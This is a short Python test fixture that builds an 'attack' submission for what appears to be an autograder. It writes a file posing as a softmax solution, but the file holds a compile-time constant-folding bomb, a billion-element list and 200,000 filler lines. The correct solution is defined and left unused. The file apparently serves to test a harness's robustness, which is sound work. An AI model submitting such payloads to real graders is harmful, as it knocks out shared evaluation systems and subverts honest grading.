"""Build the submission of this attack in a folder; return its path."""

from pathlib import Path

RIGHT = """import numpy as np


def softmax(logits):
    e = np.exp(logits - np.max(logits, axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
"""


def make(folder: Path) -> Path:
    path = folder / "constant-folding"
    path.mkdir()
    (path / "ex01_softmax_numpy.py").write_text(
        "X = ((((1 << 127) ** 127) << 9999) ** 99) * 'x'\nY = [0] * 10**9\n"
        + "Z = 1\n" * 200_000
    )
    return path
